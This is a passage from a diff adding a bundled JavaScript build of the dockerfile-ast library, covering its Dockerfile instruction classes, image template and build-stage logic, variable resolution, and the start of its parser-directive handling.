+              return vscode_languageserver_types_1.Range.create(this.document.positionAt(rangeStartOffset + colonIndex + 1), range3.end);
+            }
+          }
+          const subcontent = content.substring(0, atIndex);
+          const subcolonIndex = subcontent.indexOf(":");
+          if (subcolonIndex === -1) {
+            return null;
+          }
+          if (slashIndex === -1) {
+            return vscode_languageserver_types_1.Range.create(this.document.positionAt(rangeStartOffset + subcolonIndex + 1), this.document.positionAt(rangeStartOffset + atIndex));
+          }
+          if (subcolonIndex < slashIndex) {
+            return null;
+          }
+          return vscode_languageserver_types_1.Range.create(this.document.positionAt(rangeStartOffset + subcolonIndex + 1), this.document.positionAt(rangeStartOffset + subcontent.length));
+        }
+        return null;
+      }
+      getImageDigest() {
+        return this.getRangeContent(this.getImageDigestRange());
+      }
+      /**
+       * Returns the range in the document that the digest of the base
+       * image encompasses.
+       *
+       * @return the base image's digest's range in the document, or null
+       *         if no digest has been specified
+       */
+      getImageDigestRange() {
+        let range3 = this.getImageRange();
+        if (range3) {
+          let content = this.getRangeContent(range3);
+          let index = this.lastIndexOf(this.document.offsetAt(range3.start), content, "@");
+          if (index !== -1) {
+            return vscode_languageserver_types_1.Range.create(range3.start.line, range3.start.character + index + 1, range3.end.line, range3.end.character);
+          }
+        }
+        return null;
+      }
+      indexOf(documentOffset, content, searchString) {
+        let index = content.indexOf(searchString);
+        const variables = this.getVariables();
+        for (let i = 0; i < variables.length; i++) {
+          const position = documentOffset + index;
+          const variableRange = variables[i].getRange();
+          if (this.document.offsetAt(variableRange.start) < position && position < this.document.offsetAt(variableRange.end)) {
+            const offset = this.document.offsetAt(variableRange.end) - documentOffset;
+            const substring = content.substring(offset);
+            const subIndex = substring.indexOf(searchString);
+            if (subIndex === -1) {
+              return -1;
+            }
+            index = subIndex + offset;
+            i = -1;
+            continue;
+          }
+        }
+        return index;
+      }
+      lastIndexOf(documentOffset, content, searchString) {
+        let index = content.lastIndexOf(searchString);
+        const variables = this.getVariables();
+        for (let i = 0; i < variables.length; i++) {
+          const position = documentOffset + index;
+          const variableRange = variables[i].getRange();
+          if (this.document.offsetAt(variableRange.start) < position && position < this.document.offsetAt(variableRange.end)) {
+            index = content.substring(0, index).lastIndexOf(searchString);
+            if (index === -1) {
+              return -1;
+            }
+            i = -1;
+            continue;
+          }
+        }
+        return index;
+      }
+      getRegistry() {
+        return this.getRangeContent(this.getRegistryRange());
+      }
+      getRegistryRange() {
+        const range3 = this.getImageRange();
+        if (range3) {
+          const tagRange = this.getImageTagRange();
+          const digestRange = this.getImageDigestRange();
+          if (tagRange === null) {
+            if (digestRange !== null) {
+              range3.end = this.document.positionAt(this.document.offsetAt(digestRange.start) - 1);
+            }
+          } else {
+            range3.end = this.document.positionAt(this.document.offsetAt(tagRange.start) - 1);
+          }
+          const content = this.getRangeContent(range3);
+          const rangeStart = this.document.offsetAt(range3.start);
+          const startingSlashIndex = this.indexOf(rangeStart, content, "/");
+          if (startingSlashIndex === -1) {
+            return null;
+          }
+          const portIndex = this.indexOf(rangeStart, content, ":");
+          const dotIndex = this.indexOf(rangeStart, content, ".");
+          if (portIndex !== -1 || dotIndex !== -1) {
+            return vscode_languageserver_types_1.Range.create(range3.start, this.document.positionAt(rangeStart + startingSlashIndex));
+          }
+          const registry = content.substring(0, startingSlashIndex);
+          if (registry === "localhost") {
+            return vscode_languageserver_types_1.Range.create(range3.start, this.document.positionAt(rangeStart + startingSlashIndex));
+          }
+        }
+        return null;
+      }
+      getBuildStage() {
+        let range3 = this.getBuildStageRange();
+        return range3 === null ? null : this.getRangeContent(range3);
+      }
+      getBuildStageRange() {
+        let args = this.getArguments();
+        if (args.length > 2 && args[1].getValue().toUpperCase() === "AS") {
+          return args[2].getRange();
+        }
+        return null;
+      }
+      getPlatformFlag() {
+        let flags = super.getFlags();
+        return flags.length === 1 && flags[0].getName() === "platform" ? flags[0] : null;
+      }
+    };
+    exports.From = From;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/instructions/healthcheck.js
+var require_healthcheck = __commonJS({
+  "node_modules/dockerfile-ast/lib/instructions/healthcheck.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Healthcheck = void 0;
+    var modifiableInstruction_1 = require_modifiableInstruction();
+    var Healthcheck = class extends modifiableInstruction_1.ModifiableInstruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+      }
+      stopSearchingForFlags(argument) {
+        argument = argument.toUpperCase();
+        return argument === "CMD" || argument === "NONE";
+      }
+      getSubcommand() {
+        let args = this.getArguments();
+        return args.length !== 0 ? args[0] : null;
+      }
+    };
+    exports.Healthcheck = Healthcheck;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/instructions/label.js
+var require_label = __commonJS({
+  "node_modules/dockerfile-ast/lib/instructions/label.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Label = void 0;
+    var propertyInstruction_1 = require_propertyInstruction();
+    var util_1 = require_util9();
+    var Label = class extends propertyInstruction_1.PropertyInstruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+      }
+      getVariables() {
+        const variables = super.getVariables();
+        const properties = this.getProperties();
+        for (const property of properties) {
+          const value = property.getUnescapedValue();
+          if (value !== null && value.length > 2 && value.charAt(0) === "'" && value.charAt(value.length - 1) === "'") {
+            const range3 = property.getValueRange();
+            for (let i = 0; i < variables.length; i++) {
+              if (util_1.Util.isInsideRange(variables[i].getRange().start, range3)) {
+                variables.splice(i, 1);
+                i--;
+              }
+            }
+          }
+        }
+        return variables;
+      }
+      getProperties() {
+        return super.getProperties();
+      }
+    };
+    exports.Label = Label;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/instructions/onbuild.js
+var require_onbuild = __commonJS({
+  "node_modules/dockerfile-ast/lib/instructions/onbuild.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Onbuild = void 0;
+    var vscode_languageserver_types_1 = (init_main(), __toCommonJS(main_exports));
+    var parser_1 = require_parser2();
+    var instruction_1 = require_instruction();
+    var Onbuild = class extends instruction_1.Instruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+      }
+      getTrigger() {
+        let trigger = this.getTriggerWord();
+        return trigger === null ? null : trigger.toUpperCase();
+      }
+      getTriggerWord() {
+        return this.getRangeContent(this.getTriggerRange());
+      }
+      getTriggerRange() {
+        let args = this.getArguments();
+        return args.length > 0 ? args[0].getRange() : null;
+      }
+      getTriggerInstruction() {
+        let triggerRange = this.getTriggerRange();
+        if (triggerRange === null) {
+          return null;
+        }
+        let args = this.getArguments();
+        return parser_1.Parser.createInstruction(this.document, this.dockerfile, this.escapeChar, vscode_languageserver_types_1.Range.create(args[0].getRange().start, this.getRange().end), this.getTriggerWord(), triggerRange);
+      }
+    };
+    exports.Onbuild = Onbuild;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/instructions/run.js
+var require_run = __commonJS({
+  "node_modules/dockerfile-ast/lib/instructions/run.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Run = void 0;
+    var jsonInstruction_1 = require_jsonInstruction();
+    var Run = class extends jsonInstruction_1.JSONInstruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+      }
+      stopSearchingForFlags(argument) {
+        return argument.indexOf("--") === -1;
+      }
+      /**
+       * Returns there here-documents that are defined in this RUN
+       * instruction.
+       *
+       * This API is experimental and subject to change.
+       */
+      getHeredocs() {
+        return super.getHeredocs();
+      }
+    };
+    exports.Run = Run;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/instructions/shell.js
+var require_shell = __commonJS({
+  "node_modules/dockerfile-ast/lib/instructions/shell.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Shell = void 0;
+    var jsonInstruction_1 = require_jsonInstruction();
+    var Shell = class extends jsonInstruction_1.JSONInstruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+      }
+    };
+    exports.Shell = Shell;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/instructions/stopsignal.js
+var require_stopsignal = __commonJS({
+  "node_modules/dockerfile-ast/lib/instructions/stopsignal.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Stopsignal = void 0;
+    var instruction_1 = require_instruction();
+    var Stopsignal = class extends instruction_1.Instruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+      }
+    };
+    exports.Stopsignal = Stopsignal;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/instructions/workdir.js
+var require_workdir = __commonJS({
+  "node_modules/dockerfile-ast/lib/instructions/workdir.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Workdir = void 0;
+    var instruction_1 = require_instruction();
+    var Workdir = class extends instruction_1.Instruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+      }
+      /**
+       * Returns the path that has been defined. Note that this path may
+       * be absolute or relative depending on what was written in the
+       * instruction.
+       *
+       * @return the working directory's path, or null if this
+       *         instruction has no arguments
+       */
+      getPath() {
+        return this.getArgumentsContent();
+      }
+      /**
+       * Returns the absolute path that this instruction resolves to. The
+       * function will inspect prior WORKDIR instructions in the current
+       * image or another build stage in the Dockerfile to try to
+       * determine this.
+       *
+       * @return the absolute path of the working directory, or null if
+       *         this instruction has no arguments, or undefined if it
+       *         cannot be determined because only relative paths could be
+       *         found
+       */
+      getAbsolutePath() {
+        const path8 = this.getPath();
+        if (path8 === null || path8.startsWith("/")) {
+          return path8;
+        }
+        const startLine = this.getRange().start.line;
+        const hierarchy = this.dockerfile.getStageHierarchy(startLine);
+        for (let i = hierarchy.length - 1; i >= 0; i--) {
+          const workdirs = hierarchy[i].getWORKDIRs();
+          for (let j = workdirs.length - 1; j >= 0; j--) {
+            if (workdirs[j].getRange().start.line < startLine) {
+              const parent = workdirs[j].getAbsolutePath();
+              if (parent === void 0 || parent === null) {
+                return void 0;
+              }
+              return parent.endsWith("/") ? parent + path8 : parent + "/" + path8;
+            }
+          }
+        }
+        return void 0;
+      }
+    };
+    exports.Workdir = Workdir;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/instructions/user.js
+var require_user = __commonJS({
+  "node_modules/dockerfile-ast/lib/instructions/user.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.User = void 0;
+    var instruction_1 = require_instruction();
+    var User = class extends instruction_1.Instruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+      }
+    };
+    exports.User = User;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/instructions/volume.js
+var require_volume = __commonJS({
+  "node_modules/dockerfile-ast/lib/instructions/volume.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Volume = void 0;
+    var jsonInstruction_1 = require_jsonInstruction();
+    var Volume = class extends jsonInstruction_1.JSONInstruction {
+      constructor(document, range3, dockerfile, escapeChar, instruction, instructionRange) {
+        super(document, range3, dockerfile, escapeChar, instruction, instructionRange);
+      }
+    };
+    exports.Volume = Volume;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/imageTemplate.js
+var require_imageTemplate = __commonJS({
+  "node_modules/dockerfile-ast/lib/imageTemplate.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.ImageTemplate = void 0;
+    var vscode_languageserver_types_1 = (init_main(), __toCommonJS(main_exports));
+    var arg_1 = require_arg();
+    var cmd_1 = require_cmd();
+    var copy_1 = require_copy();
+    var env_1 = require_env();
+    var entrypoint_1 = require_entrypoint();
+    var from_1 = require_from();
+    var healthcheck_1 = require_healthcheck();
+    var onbuild_1 = require_onbuild();
+    var util_1 = require_util9();
+    var workdir_1 = require_workdir();
+    var ImageTemplate = class {
+      constructor() {
+        this.comments = [];
+        this.instructions = [];
+      }
+      addComment(comment) {
+        this.comments.push(comment);
+      }
+      getComments() {
+        return this.comments;
+      }
+      addInstruction(instruction) {
+        this.instructions.push(instruction);
+      }
+      getInstructions() {
+        return this.instructions;
+      }
+      getInstructionAt(line) {
+        for (let instruction of this.instructions) {
+          if (util_1.Util.isInsideRange(vscode_languageserver_types_1.Position.create(line, 0), instruction.getRange())) {
+            return instruction;
+          }
+        }
+        return null;
+      }
+      /**
+       * Gets all the ARG instructions that are defined in this image.
+       */
+      getARGs() {
+        let args = [];
+        for (let instruction of this.instructions) {
+          if (instruction instanceof arg_1.Arg) {
+            args.push(instruction);
+          }
+        }
+        return args;
+      }
+      /**
+       * Gets all the CMD instructions that are defined in this image.
+       */
+      getCMDs() {
+        let cmds = [];
+        for (let instruction of this.instructions) {
+          if (instruction instanceof cmd_1.Cmd) {
+            cmds.push(instruction);
+          }
+        }
+        return cmds;
+      }
+      /**
+       * Gets all the COPY instructions that are defined in this image.
+       */
+      getCOPYs() {
+        let copies = [];
+        for (let instruction of this.instructions) {
+          if (instruction instanceof copy_1.Copy) {
+            copies.push(instruction);
+          }
+        }
+        return copies;
+      }
+      /**
+       * Gets all the ENTRYPOINT instructions that are defined in this image.
+       */
+      getENTRYPOINTs() {
+        let froms = [];
+        for (let instruction of this.instructions) {
+          if (instruction instanceof entrypoint_1.Entrypoint) {
+            froms.push(instruction);
+          }
+        }
+        return froms;
+      }
+      /**
+       * Gets all the ENV instructions that are defined in this image.
+       */
+      getENVs() {
+        let args = [];
+        for (let instruction of this.instructions) {
+          if (instruction instanceof env_1.Env) {
+            args.push(instruction);
+          }
+        }
+        return args;
+      }
+      getFROM() {
+        for (const instruction of this.instructions) {
+          if (instruction instanceof from_1.From) {
+            return instruction;
+          }
+        }
+        return null;
+      }
+      /**
+       * Gets all the FROM instructions that are defined in this image.
+       */
+      getFROMs() {
+        let froms = [];
+        for (let instruction of this.instructions) {
+          if (instruction instanceof from_1.From) {
+            froms.push(instruction);
+          }
+        }
+        return froms;
+      }
+      /**
+       * Gets all the HEALTHCHECK instructions that are defined in this image.
+       */
+      getHEALTHCHECKs() {
+        let froms = [];
+        for (let instruction of this.instructions) {
+          if (instruction instanceof healthcheck_1.Healthcheck) {
+            froms.push(instruction);
+          }
+        }
+        return froms;
+      }
+      getWORKDIRs() {
+        const workdirs = [];
+        for (const instruction of this.instructions) {
+          if (instruction instanceof workdir_1.Workdir) {
+            workdirs.push(instruction);
+          }
+        }
+        return workdirs;
+      }
+      getOnbuildTriggers() {
+        let triggers = [];
+        for (let instruction of this.instructions) {
+          if (instruction instanceof onbuild_1.Onbuild) {
+            let trigger = instruction.getTriggerInstruction();
+            if (trigger) {
+              triggers.push(trigger);
+            }
+          }
+        }
+        return triggers;
+      }
+      getAvailableVariables(currentLine) {
+        const variables = [];
+        for (const arg of this.getARGs()) {
+          if (arg.isBefore(currentLine)) {
+            const property = arg.getProperty();
+            if (property) {
+              const variable = property.getName();
+              if (variables.indexOf(variable) === -1) {
+                variables.push(variable);
+              }
+            }
+          }
+        }
+        for (const env of this.getENVs()) {
+          if (env.isBefore(currentLine)) {
+            for (const property of env.getProperties()) {
+              const variable = property.getName();
+              if (variables.indexOf(variable) === -1) {
+                variables.push(variable);
+              }
+            }
+          }
+        }
+        return variables;
+      }
+      /**
+       * Resolves a variable with the given name at the specified line
+       * to its value. If null is returned, then the variable has been
+       * defined but no value was given. If undefined is returned, then
+       * a variable with the given name has not been defined yet as of
+       * the given line.
+       *
+       * @param variable the name of the variable to resolve
+       * @param line the line number that the variable is on, zero-based
+       * @return the value of the variable as defined by an ARG or ENV
+       *         instruction, or null if no value has been specified, or
+       *         undefined if a variable with the given name has not
+       *         been defined
+       */
+      resolveVariable(variable, line) {
+        let envs = this.getENVs();
+        for (let i = envs.length - 1; i >= 0; i--) {
+          if (envs[i].isBefore(line)) {
+            for (let property of envs[i].getProperties()) {
+              if (property.getName() === variable) {
+                return property.getValue();
+              }
+            }
+          }
+        }
+        let args = this.getARGs();
+        for (let i = args.length - 1; i >= 0; i--) {
+          if (args[i].isBefore(line)) {
+            let property = args[i].getProperty();
+            if (property && property.getName() === variable) {
+              return property.getValue();
+            }
+          }
+        }
+        return void 0;
+      }
+      getRange() {
+        const instructions = this.getInstructions();
+        if (instructions.length === 0) {
+          return vscode_languageserver_types_1.Range.create(0, 0, 0, 0);
+        }
+        const instructionStart = instructions[0].getRange().start;
+        const instructionEnd = instructions[instructions.length - 1].getRange().end;
+        return vscode_languageserver_types_1.Range.create(instructionStart, instructionEnd);
+      }
+      contains(position) {
+        const range3 = this.getRange();
+        if (range3 === null) {
+          return false;
+        }
+        return util_1.Util.isInsideRange(position, range3);
+      }
+    };
+    exports.ImageTemplate = ImageTemplate;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/dockerfile.js
+var require_dockerfile = __commonJS({
+  "node_modules/dockerfile-ast/lib/dockerfile.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Dockerfile = void 0;
+    var vscode_languageserver_types_1 = (init_main(), __toCommonJS(main_exports));
+    var ast = require_main();
+    var imageTemplate_1 = require_imageTemplate();
+    var from_1 = require_from();
+    var util_1 = require_util9();
+    var main_1 = require_main();
+    var Dockerfile = class extends imageTemplate_1.ImageTemplate {
+      constructor(document) {
+        super();
+        this.initialInstructions = new imageTemplate_1.ImageTemplate();
+        this.buildStages = [];
+        this.directives = [];
+        this.foundFrom = false;
+        this.document = document;
+      }
+      getEscapeCharacter() {
+        for (const directive of this.directives) {
+          if (directive.getDirective() === ast.Directive.escape) {
+            const value = directive.getValue();
+            if (value === "\\" || value === "`") {
+              return value;
+            }
+          }
+        }
+        return "\\";
+      }
+      getInitialARGs() {
+        return this.initialInstructions.getARGs();
+      }
+      getContainingImage(position) {
+        let range3 = vscode_languageserver_types_1.Range.create(vscode_languageserver_types_1.Position.create(0, 0), this.document.positionAt(this.document.getText().length));
+        if (!util_1.Util.isInsideRange(position, range3)) {
+          return null;
+        }
+        if (this.initialInstructions.getComments().length > 0 || this.initialInstructions.getInstructions().length > 0) {
+          if (util_1.Util.isInsideRange(position, this.initialInstructions.getRange())) {
+            return this.initialInstructions;
+          }
+        }
+        for (const buildStage of this.buildStages) {
+          if (util_1.Util.isInsideRange(position, buildStage.getRange())) {
+            return buildStage;
+          }
+        }
+        return this;
+      }
+      addInstruction(instruction) {
+        if (instruction.getKeyword() === main_1.Keyword.FROM) {
+          this.currentBuildStage = new imageTemplate_1.ImageTemplate();
+          this.buildStages.push(this.currentBuildStage);
+          this.foundFrom = true;
+        } else if (!this.foundFrom) {
+          this.initialInstructions.addInstruction(instruction);
+        }
+        if (this.foundFrom) {
+          this.currentBuildStage.addInstruction(instruction);
+        }
+        super.addInstruction(instruction);
+      }
+      setDirectives(directives) {
+        this.directives = directives;
+      }
+      getDirective() {
+        return this.directives.length === 0 ? null : this.directives[0];
+      }
+      getDirectives() {
+        return this.directives;
+      }
+      resolveVariable(variable, line) {
+        for (let from of this.getFROMs()) {
+          let range3 = from.getRange();
+          if (range3.start.line <= line && line <= range3.end.line) {
+            let initialARGs = new imageTemplate_1.ImageTemplate();
+            for (let instruction of this.initialInstructions.getARGs()) {
+              initialARGs.addInstruction(instruction);
+            }
+            return initialARGs.resolveVariable(variable, line);
+          }
+        }
+        let image = this.getContainingImage(vscode_languageserver_types_1.Position.create(line, 0));
+        if (image === null) {
+          return void 0;
+        }
+        let resolvedVariable = image.resolveVariable(variable, line);
+        if (resolvedVariable === null) {
+          let initialARGs = new imageTemplate_1.ImageTemplate();
+          for (let instruction of this.initialInstructions.getARGs()) {
+            initialARGs.addInstruction(instruction);
+          }
+          return initialARGs.resolveVariable(variable, line);
+        }
+        return resolvedVariable;
+      }
+      getAvailableVariables(currentLine) {
+        if (this.getInstructionAt(currentLine) instanceof from_1.From) {
+          let variables = [];
+          for (let arg of this.getInitialARGs()) {
+            let property = arg.getProperty();
+            if (property) {
+              variables.push(property.getName());
+            }
+          }
+          return variables;
+        }
+        let image = this.getContainingImage(vscode_languageserver_types_1.Position.create(currentLine, 0));
+        return image ? image.getAvailableVariables(currentLine) : [];
+      }
+      getParentStage(image) {
+        const templateFrom = image.getFROM();
+        const imageName = templateFrom === null ? null : templateFrom.getImageName();
+        if (imageName === null) {
+          return null;
+        }
+        for (const from of this.getFROMs()) {
+          if (from.getBuildStage() === imageName) {
+            const range3 = from.getRange();
+            if (range3.start.line === templateFrom.getRange().start.line) {
+              return null;
+            }
+            return this.getContainingImage(range3.start);
+          }
+        }
+        return null;
+      }
+      getStageHierarchy(line) {
+        const image = this.getContainingImage(vscode_languageserver_types_1.Position.create(line, 0));
+        if (image === null) {
+          return [];
+        }
+        const stages = [image];
+        let stage = this.getParentStage(image);
+        while (stage !== null) {
+          stages.splice(0, 0, stage);
+          stage = this.getParentStage(stage);
+        }
+        return stages;
+      }
+      getAvailableWorkingDirectories(line) {
+        const availableDirectories = /* @__PURE__ */ new Set();
+        for (const image of this.getStageHierarchy(line)) {
+          for (const workdir of image.getWORKDIRs()) {
+            if (workdir.getRange().end.line < line) {
+              let directory = workdir.getAbsolutePath();
+              if (directory !== void 0 && directory !== null) {
+                if (!directory.endsWith("/")) {
+                  directory += "/";
+                }
+                availableDirectories.add(directory);
+              }
+            }
+          }
+        }
+        return Array.from(availableDirectories);
+      }
+      /**
+       * Internally reorganize the comments in the Dockerfile and allocate
+       * them to the relevant build stages that they belong to.
+       */
+      organizeComments() {
+        const comments = this.getComments();
+        for (let i = 0; i < comments.length; i++) {
+          if (util_1.Util.isInsideRange(comments[i].getRange().end, this.initialInstructions.getRange())) {
+            this.initialInstructions.addComment(comments[i]);
+          } else {
+            for (const buildStage of this.buildStages) {
+              if (util_1.Util.isInsideRange(comments[i].getRange().start, buildStage.getRange())) {
+                buildStage.addComment(comments[i]);
+              }
+            }
+          }
+        }
+      }
+      getRange() {
+        const comments = this.getComments();
+        const instructions = this.getInstructions();
+        let range3 = null;
+        if (comments.length === 0) {
+          if (instructions.length > 0) {
+            range3 = vscode_languageserver_types_1.Range.create(instructions[0].getRange().start, instructions[instructions.length - 1].getRange().end);
+          }
+        } else if (instructions.length === 0) {
+          range3 = vscode_languageserver_types_1.Range.create(comments[0].getRange().start, comments[comments.length - 1].getRange().end);
+        } else {
+          const commentStart2 = comments[0].getRange().start;
+          const commentEnd = comments[comments.length - 1].getRange().end;
+          const instructionStart = instructions[0].getRange().start;
+          const instructionEnd = instructions[instructions.length - 1].getRange().end;
+          if (commentStart2.line < instructionStart.line) {
+            if (commentEnd.line < instructionEnd.line) {
+              range3 = vscode_languageserver_types_1.Range.create(commentStart2, instructionEnd);
+            }
+            range3 = vscode_languageserver_types_1.Range.create(commentStart2, commentEnd);
+          } else if (commentEnd.line < instructionEnd.line) {
+            range3 = vscode_languageserver_types_1.Range.create(instructionStart, instructionEnd);
+          } else {
+            range3 = vscode_languageserver_types_1.Range.create(instructionStart, commentEnd);
+          }
+        }
+        if (range3 === null) {
+          if (this.directives.length === 0) {
+            return null;
+          }
+          return this.directives[0].getRange();
+        } else if (this.directives.length === 0) {
+          return range3;
+        }
+        return vscode_languageserver_types_1.Range.create(this.directives[0].getRange().start, range3.end);
+      }
+    };
+    exports.Dockerfile = Dockerfile;
+  }
+});
+
+// node_modules/dockerfile-ast/lib/parser.js
+var require_parser2 = __commonJS({
+  "node_modules/dockerfile-ast/lib/parser.js"(exports) {
+    "use strict";
+    Object.defineProperty(exports, "__esModule", { value: true });
+    exports.Parser = void 0;
+    var vscode_languageserver_textdocument_1 = (init_main2(), __toCommonJS(main_exports2));
+    var vscode_languageserver_types_1 = (init_main(), __toCommonJS(main_exports));
+    var comment_1 = require_comment();
+    var parserDirective_1 = require_parserDirective();
+    var instruction_1 = require_instruction();
+    var add_1 = require_add();
+    var arg_1 = require_arg();
+    var cmd_1 = require_cmd();
+    var copy_1 = require_copy();
+    var env_1 = require_env();
+    var entrypoint_1 = require_entrypoint();
+    var from_1 = require_from();
+    var healthcheck_1 = require_healthcheck();
+    var label_1 = require_label();
+    var onbuild_1 = require_onbuild();
+    var run_1 = require_run();
+    var shell_1 = require_shell();
+    var stopsignal_1 = require_stopsignal();
+    var workdir_1 = require_workdir();
+    var user_1 = require_user();
+    var volume_1 = require_volume();
+    var dockerfile_1 = require_dockerfile();
+    var util_1 = require_util9();
+    var main_1 = require_main();
+    var Parser2 = class _Parser {
+      constructor() {
+        this.escapeChar = null;
+      }
+      static createInstruction(document, dockerfile, escapeChar, lineRange, instruction, instructionRange) {
+        switch (instruction.toUpperCase()) {
+          case "ADD":
+            return new add_1.Add(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+          case "ARG":
+            return new arg_1.Arg(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+          case "CMD":
+            return new cmd_1.Cmd(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+          case "COPY":
+            return new copy_1.Copy(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+          case "ENTRYPOINT":
+            return new entrypoint_1.Entrypoint(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+          case "ENV":
+            return new env_1.Env(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+          case "FROM":
+            return new from_1.From(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+          case "HEALTHCHECK":
+            return new healthcheck_1.Healthcheck(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+          case "LABEL":
+            return new label_1.Label(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+          case "ONBUILD":
+            return new onbuild_1.Onbuild(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+          case "RUN":
+            return new run_1.Run(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+          case "SHELL":
+            return new shell_1.Shell(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+          case "STOPSIGNAL":
+            return new stopsignal_1.Stopsignal(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+          case "WORKDIR":
+            return new workdir_1.Workdir(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+          case "USER":
+            return new user_1.User(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+          case "VOLUME":
+            return new volume_1.Volume(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+        }
+        return new instruction_1.Instruction(document, lineRange, dockerfile, escapeChar, instruction, instructionRange);
+      }
+      getParserDirectives(document, buffer) {
+        const directives = [];
+        this.escapeChar = "";
+        const offset = util_1.Util.isUTF8BOM(buffer.substring(0, 1)) ? 1 : 0;
+        directiveCheck: for (let i = offset; i < buffer.length; i++) {
+          switch (buffer.charAt(i)) {
+            case " ":
+            case "	":
+              break;
+            case "\r":
+            case "\n":
+              break directiveCheck;
+            case "#":
+              let directiveStart = -1;
+              let directiveEnd = -1;
+              for (let j = i + 1; j < buffer.length; j++) {
+                let char = buffer.charAt(j);
+                switch (char) {
+                  case " ":
+                  case "	":
+                    if (directiveStart !== -1 && directiveEnd === -1) {
+                      directiveEnd = j;
+                    }
+                    break;
+                  case "\r":
+                  case "\n":
+                    break directiveCheck;
+                  case "=":
+                    let valueStart = -1;
+                    let valueEnd = -1;
+                    if (directiveEnd === -1) {
+                      directiveEnd = j;
+                    }
+                    let lineEnd = buffer.length;
+                    directiveValue: for (let k = j + 1; k < buffer.length; k++) {
+                      char = buffer.charAt(k);
+                      switch (char) {
+                        case "\r":
+                        case "\n":
+                          if (valueStart !== -1 && valueEnd === -1) {
+                            valueEnd = k;
+                          }
+                          lineEnd = k;
+                          break directiveValue;
+                        case "	":
+                        case " ":
+                          if (valueStart !== -1 && valueEnd === -1) {
+                            valueEnd = k;
+                          }
+                          continue;
+                        default:
+                          if (valueStart === -1) {
+                            valueStart = k;
+                          }
+                          break;
+                      }
+                    }
+                    if (directiveStart === -1) {
+                      break directiveCheck;
+                    }
+                    if (valueStart === -1) {
+                      valueStart = j + 1;
+                      valueEnd = lineEnd;
+                    } else if (valueEnd === -1) {
+                      valueEnd = buffer.length;
+                    }
+                    const lineRange = vscode_languageserver_types_1.Range.create(document.positionAt(i), document.positionAt(lineEnd));
+                    const nameRange = vscode_languageserver_types_1.Range.create(document.positionAt(directiveStart), document.positionAt(directiveEnd));
+                    const valueRange = vscode_languageserver_types_1.Range.create(document.positionAt(valueStart), document.positionAt(valueEnd));
+                    directives.push(new parserDirective_1.ParserDirective(document, lineRange, nameRange, valueRange));
+                    directiveStart = -1;
+                    if (buffer.charAt(valueEnd) === "\r") {
+                      i = valueEnd + 1;
+                    } else {
+                      i = valueEnd;
+                    }
+                    continue directiveCheck;
+                  default:
+                    if (directiveStart === -1) {
+                      directiveStart = j;
+                    }
+                    break;
+                }
+              }
+              break;
+            default:
+              break directiveCheck;
+          }
+        }
+        return directives;
+      }
+      parse(buffer) {
+        this.document = vscode_languageserver_textdocument_1.TextDocument.create("", "", 0, buffer);
+        this.buffer = buffer;
+        let dockerfile = new dockerfile_1.Dockerfile(this.document);
+        let directives = this.getParserDirectives(this.document, this.buffer);
+        let offset = 0;
+        this.escapeChar = "\\";
+        if (directives.length > 0) {
+          dockerfile.setDirectives(directives);
